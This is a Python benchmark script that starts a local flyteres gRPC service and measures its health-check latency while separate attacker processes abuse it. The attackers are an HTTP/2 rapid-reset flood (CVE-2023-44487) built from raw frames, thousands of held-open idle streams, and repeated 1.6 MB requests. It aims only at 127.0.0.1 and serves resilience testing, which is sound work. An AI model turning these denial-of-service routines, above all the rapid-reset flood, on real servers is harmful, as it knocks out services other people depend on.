"""Benchmark: health checks while the service is abused.

Run with ``make bench`` or ``.venv/bin/python benchmarks/service_attack.py``.
For each scenario it starts ``python -m flyteres.service`` on 127.0.0.1 (free
ports, default settings, and ``--health-address`` when the server has it) as
a fresh subprocess, so every scenario's peak RSS is its own, then

1. starts the attackers on the service port, each a separate process (real
   clients over TCP):

   - ``idle streams``: IDLE_STREAMS ConvertBatch streams opened over
     IDLE_CONNECTIONS connections (grpc.aio), none of which sends an item;
   - ``rapid reset``: RESET_CONNECTIONS raw HTTP/2 connections at a time (h2
     for the handshake and HPACK), each sending RESET_STREAMS pairs of
     HEADERS for Convert and, at once, RST_STREAM (CVE-2023-44487), reading
     whatever the server answers, and starting over for the whole run;
   - ``big Convert``: BIG_CLIENTS clients each sending, one after the other,
     a Convert of BIG_KEYS entries in ``requests`` (about 1.6 MB);

2. checks health while they run, for PROBE_SECONDS: a round every
   PROBE_INTERVAL calls ``grpc.health.v1.Health/Check`` on a new connection
   (as the kubelet's gRPC probe does) with a PROBE_TIMEOUT deadline, on the
   health port (where the README sends liveness probes) and on the service
   port; a failed check counts as the timeout;
3. prints, for the no-attack baseline and each attack side by side: checks,
   failures, p50/p99/max in ms and PASS/MISS against the target (p99 < 50 ms
   on 2 cores, no failure) on the health port, p99 and max on the service
   port, the server process's peak RSS (VmHWM), and what the attackers saw.

Attackers, prober and server share this machine's cores: the figures are a
report, not a pass/fail test (the exit status is 0 unless the server fails
to start). Bounded: about a minute. Run against an older version of the
server (one without ``--health-address``), it probes the service port only.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
PROBE_SECONDS = 5.0
PROBE_INTERVAL = 0.02
PROBE_TIMEOUT = 1.0
TARGET_P99_MS = 50.0
IDLE_STREAMS = 5000
IDLE_CONNECTIONS = 50
RESET_CONNECTIONS = 20
RESET_STREAMS = 10_000
BIG_CLIENTS = 2
BIG_KEYS = 100_000
CONVERT = "/flyteres.v2.ResourceService/Convert"
CONVERT_BATCH = "/flyteres.v2.ResourceService/ConvertBatch"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"


# -- the attackers (each runs as `service_attack.py <name> <json>`) -------------------------------


def attack_idle(job: dict[str, Any]) -> dict[str, Any]:
    """Open idle ConvertBatch streams and hold them until stdin closes; report how many opened."""
    import grpc  # noqa: PLC0415

    async def run() -> dict[str, Any]:
        # One channel per connection: a local subchannel pool keeps grpc from sharing them.
        options = [("grpc.use_local_subchannel_pool", 1)]
        channels = [grpc.aio.insecure_channel(job["address"], options=options) for _ in range(job["connections"])]
        calls: list[Any] = []
        refused: dict[str, int] = {}
        # In waves: the server cancels calls that arrive faster than it takes them
        # (grpc.server.max_pending_requests), and a patient attacker opens more.
        deadline = time.monotonic() + job["settle"]
        while len(calls) < job["streams"] and time.monotonic() < deadline:
            wave = [
                channels[i % len(channels)].stream_stream(CONVERT_BATCH)()  # opened, never written to
                for i in range(len(calls), min(job["streams"], len(calls) + 250))
            ]
            await asyncio.gather(*(call.wait_for_connection() for call in wave), return_exceptions=True)
            await asyncio.sleep(0.05)
            for call in wave:
                if call.done():
                    code = (await call.code()).name
                    refused[code] = refused.get(code, 0) + 1
                    if code == "RESOURCE_EXHAUSTED" and len(refused) == 1 and refused[code] > 1000:
                        deadline = 0  # the server has a limit for them; no point going on
                else:
                    calls.append(call)
        held = sum(1 for call in calls if not call.done())
        codes = refused
        print(json.dumps({"ready": True, "held": held}), flush=True)
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
        ended = {}
        for call in calls:
            if call.done():
                code = (await call.code()).name
                ended[code] = ended.get(code, 0) + 1
        for call in calls:
            call.cancel()
        for channel in channels:
            await channel.close()
        return {"held_at_start": held, "refused_at_start": codes, "ended_during_probe": ended}

    return asyncio.run(run())


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rapid_reset_connection(address: str, streams: int, path: str = CONVERT) -> dict[str, Any]:
    """One HTTP/2 connection sending `streams` HEADERS+RST_STREAM pairs as fast as it can.

    h2 does the handshake (preface, SETTINGS and their ACK) and HPACK; the
    flood itself is written as raw frames, since h2 would refuse to exceed
    the server's MAX_CONCURRENT_STREAMS, which an attacker ignores.
    """
    import h2.config  # noqa: PLC0415
    import h2.connection  # noqa: PLC0415
    import hpack  # noqa: PLC0415

    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    conn.receive_data(sock.recv(65536))  # the server's SETTINGS, which h2 acknowledges
    sock.sendall(conn.data_to_send())
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", address),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    encoder = hpack.Encoder()
    first = encoder.encode(headers)  # enters every header in the server's table
    indexed = encoder.encode(headers)  # refers to them: a few bytes per stream
    received = {"bytes": 0, "closed": False}

    def drain() -> None:
        try:
            while data := sock.recv(1 << 16):
                received["bytes"] += len(data)
        except OSError:
            pass
        received["closed"] = True

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    sent = 0
    start = time.perf_counter()
    try:
        chunk = []
        for n in range(streams):
            stream = 2 * n + 1  # client streams are odd and increasing
            chunk.append(_frame(0x1, 0x4, stream, first if n == 0 else indexed))  # HEADERS, END_HEADERS
            chunk.append(_frame(0x3, 0x0, stream, struct.pack(">I", 0x8)))  # RST_STREAM CANCEL
            if len(chunk) >= 200:
                sock.sendall(b"".join(chunk))
                sent += len(chunk) // 2
                chunk = []
        sock.sendall(b"".join(chunk))
        sent += len(chunk) // 2
        error = None
    except OSError as exc:  # the server closed the connection
        error = type(exc).__name__
    seconds = time.perf_counter() - start
    reader.join(2)
    sock.close()
    return {"sent": sent, "seconds": round(seconds, 2), "error": error, "closed_by_server": received["closed"]}


def attack_reset(job: dict[str, Any]) -> dict[str, Any]:
    """`connections` rapid-reset connections at a time, one thread each, for `seconds`:
    each thread opens a new connection whenever its last one has sent its streams."""
    results: list[dict[str, Any]] = []
    end = time.monotonic() + job["seconds"]

    def flood() -> None:
        while time.monotonic() < end:
            results.append(rapid_reset_connection(job["address"], job["streams"]))

    threads = [threading.Thread(target=flood) for _ in range(job["connections"])]
    print(json.dumps({"ready": True}), flush=True)
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return {
        "connections": len(results),
        "sent": sum(r["sent"] for r in results),
        "connections_closed_by_server": sum(1 for r in results if r["closed_by_server"] or r["error"]),
    }


def big_request(keys: int) -> bytes:
    from flyteres_pb.v2 import service_pb2 as pb  # noqa: PLC0415

    spec = pb.FlytekitSpec(requests={f"key{i:06d}": "1" for i in range(keys)})
    return pb.ConvertRequest(input=pb.SpecInput(flytekit=spec)).SerializeToString()


def attack_big(job: dict[str, Any]) -> dict[str, Any]:
    """Send the big Convert again and again until stdin closes; count the answers by status."""
    import grpc  # noqa: PLC0415

    data = big_request(job["keys"])
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    codes: dict[str, int] = {}
    options = [("grpc.max_send_message_length", 8 << 20), ("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(job["address"], options=options) as channel:
        call = channel.unary_unary(CONVERT)
        print(json.dumps({"ready": True, "bytes": len(data)}), flush=True)
        while not stop.is_set():
            try:
                call(data, timeout=30)
                code = "OK"
            except grpc.RpcError as exc:
                code = exc.code().name  # type: ignore[attr-defined]  # a grpc.Call too
            codes[code] = codes.get(code, 0) + 1
    return {"bytes": len(data), "answers": codes}


def probe(job: dict[str, Any]) -> dict[str, Any]:
    """Health checks on new connections for `seconds`, to each of `addresses` in turn, a round every
    PROBE_INTERVAL: per address, the latencies (a failure counts as PROBE_TIMEOUT) and failures."""
    import grpc  # noqa: PLC0415
    from grpc_health.v1 import health_pb2  # noqa: PLC0415

    request = health_pb2.HealthCheckRequest().SerializeToString()
    serving = health_pb2.HealthCheckResponse(status=health_pb2.HealthCheckResponse.SERVING).SerializeToString()
    options = [("grpc.use_local_subchannel_pool", 1)]  # a connection of its own, as a kubelet probe
    results = {address: {"latencies_ms": [], "failures": {}} for address in job["addresses"]}

    def check(address: str) -> str | None:
        """None if SERVING in time, else what went wrong."""
        try:
            with grpc.insecure_channel(address, options=options) as channel:
                answer = channel.unary_unary(HEALTH_CHECK)(request, timeout=PROBE_TIMEOUT)
        except grpc.RpcError as exc:
            return str(exc.code().name)  # type: ignore[attr-defined]  # a grpc.Call too
        return None if answer == serving else "NOT_SERVING"

    for address in job["addresses"]:  # a process's first call sets grpc up: not the server's time
        check(address)
    end = time.monotonic() + job["seconds"]
    while time.monotonic() < end:
        round_start = time.perf_counter()
        for address, result in results.items():
            start = time.perf_counter()
            failure = check(address)
            result["latencies_ms"].append(PROBE_TIMEOUT * 1000 if failure else (time.perf_counter() - start) * 1000)
            if failure:
                result["failures"][failure] = result["failures"].get(failure, 0) + 1
        time.sleep(max(0.0, PROBE_INTERVAL - (time.perf_counter() - round_start)))
    return results


ATTACKERS: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "idle": attack_idle,
    "reset": attack_reset,
    "big": attack_big,
    "probe": probe,
}


# -- the scenarios ---------------------------------------------------------------------------------


SERVE = [sys.executable, "-m", "flyteres.service", "--address", "127.0.0.1:0"]


def health_port_option() -> list[str]:
    """`--health-address` when this version of the server has it (so older versions can be measured too)."""
    usage = subprocess.run([*SERVE, "--help"], cwd=ROOT, capture_output=True, text=True, check=False).stdout
    return ["--health-address", "127.0.0.1:0"] if "--health-address" in usage else []


def start_server(health: list[str]) -> tuple[subprocess.Popen[str], dict[str, str]]:
    """`python -m flyteres.service` on free ports; its addresses by role ("service", "health")."""
    proc = subprocess.Popen(
        [*SERVE, *health],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    assert proc.stdout is not None
    addresses: dict[str, str] = {}
    for line in proc.stdout:
        if line.startswith("listening on "):
            addresses["service"] = line.split()[-1]
        elif line.startswith("health on "):
            addresses["health"] = line.split()[-1]
        if "service" in addresses and ("health" in addresses or not health):
            break
    if "service" not in addresses:
        proc.kill()
        raise SystemExit("the server did not start")
    return proc, addresses


def spawn(name: str, job: dict[str, Any]) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, __file__, name, json.dumps(job)],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )


def ready(proc: subprocess.Popen[str]) -> dict[str, Any]:
    assert proc.stdout is not None
    line = proc.stdout.readline()
    return json.loads(line) if line else {}


def finish(proc: subprocess.Popen[str], timeout: float = 120) -> dict[str, Any]:
    out, _ = proc.communicate("", timeout=timeout)
    lines = [line for line in out.splitlines() if line.strip()]
    return json.loads(lines[-1]) if lines else {}


def peak_rss_mib(pid: int) -> float:
    """VmHWM of a live process in MiB (Linux /proc; 0 elsewhere)."""
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


def scenario(name: str, health: list[str]) -> dict[str, Any]:
    """One attack (or none) on a fresh server while the prober checks health on each of its ports."""
    server, addresses = start_server(health)
    service = addresses["service"]
    attackers: list[subprocess.Popen[str]] = []
    try:
        match name:
            case "idle streams":
                job = {"address": service, "streams": IDLE_STREAMS, "connections": IDLE_CONNECTIONS}
                attackers = [spawn("idle", {**job, "settle": 10.0})]
            case "rapid reset":
                job = {"address": service, "streams": RESET_STREAMS, "seconds": PROBE_SECONDS + 1}
                # Two processes, so the flood is not limited by one Python process's speed.
                half = RESET_CONNECTIONS // 2
                attackers = [spawn("reset", {**job, "connections": n}) for n in (half, RESET_CONNECTIONS - half)]
            case "big Convert":
                attackers = [spawn("big", {"address": service, "keys": BIG_KEYS}) for _ in range(BIG_CLIENTS)]
        for attacker in attackers:
            ready(attacker)
        if name == "big Convert":
            time.sleep(1.0)  # every client has a request in flight
        prober = spawn("probe", {"addresses": list(addresses.values()), "seconds": PROBE_SECONDS})
        probed = finish(prober)
        seen = [finish(attacker) for attacker in attackers]
        rss = peak_rss_mib(server.pid)
        alive = server.poll() is None
    finally:
        for attacker in attackers:
            if attacker.poll() is None:
                attacker.kill()
        server.terminate()
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
    by_role = {role: probed.get(address, {}) for role, address in addresses.items()}
    return {"probes": by_role, "attackers": seen, "rss_mib": rss, "alive": alive}


def percentile(sorted_values: list[float], fraction: float) -> float:
    if not sorted_values:
        return float("nan")
    return sorted_values[min(len(sorted_values) - 1, int(len(sorted_values) * fraction))]


def summary(probed: dict[str, Any]) -> tuple[int, int, float, float, float]:
    """Probes, failures, p50, p99 and max of one port's health checks."""
    latencies = sorted(probed.get("latencies_ms", []))
    failed = sum(probed.get("failures", {}).values())
    worst = latencies[-1] if latencies else float("nan")
    return len(latencies), failed, percentile(latencies, 0.5), percentile(latencies, 0.99), worst


def main() -> int:
    cpus = os.cpu_count() or 1
    health = health_port_option()
    target = "the health port (--health-address)" if health else "the service port (no --health-address here)"
    print(
        f"machine: {cpus} CPUs; a fresh server per scenario, attacked on its service port. Health is checked on a\n"
        f"new connection on each port in turn, a round every {PROBE_INTERVAL * 1000:.0f} ms for "
        f"{PROBE_SECONDS:.0f} s; a failed check ({PROBE_TIMEOUT:.0f} s deadline) counts as "
        f"{PROBE_TIMEOUT * 1000:.0f} ms.\nTarget: health p99 < {TARGET_P99_MS:.0f} ms with no failure on {target}, "
        "where liveness probes go;\nthe service port's health checks are shown beside it. Peak RSS: the server "
        "process's VmHWM."
    )
    print(
        f"{'':<15}{'---- health checks where probes go ----':^46}{'- on the service port -':^26}\n"
        f"{'scenario':<15}{'checks':>7}{'failed':>7}{'p50 ms':>8}{'p99 ms':>8}{'max ms':>8}{'':>8}"
        f"{'failed':>7}{'p99 ms':>8}{'max ms':>8}{'peak RSS':>11}   target"
    )
    details = []
    for name in ("no attack", "idle streams", "rapid reset", "big Convert"):
        result = scenario(name, health)
        count, failed, p50, p99, worst = summary(result["probes"].get("health") or result["probes"]["service"])
        verdict = "PASS" if p99 < TARGET_P99_MS and not failed else "MISS"
        if health:
            _, s_failed, _, s_p99, s_worst = summary(result["probes"]["service"])
            service_cells = f"{s_failed:>7}{s_p99:>8.1f}{s_worst:>8.1f}"
        else:
            service_cells = f"{'(same)':>23}"
        print(
            f"{name:<15}{count:>7}{failed:>7}{p50:>8.1f}{p99:>8.1f}{worst:>8.1f}{'':>8}{service_cells}"
            f"{result['rss_mib']:>7.0f} MiB   {verdict}" + ("" if result["alive"] else "   (the server died)")
        )
        details.append((name, result))
    for name, result in details:
        for role, probed in result["probes"].items():
            if probed.get("failures"):
                print(f"  {name}: failed checks on the {role} port, by status: {probed['failures']}")
        for seen in result["attackers"]:
            print(f"  {name}: an attacker saw {seen}")
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] in ATTACKERS:
        print(json.dumps(ATTACKERS[sys.argv[1]](json.loads(sys.argv[2]))), flush=True)
    else:
        sys.exit(main())
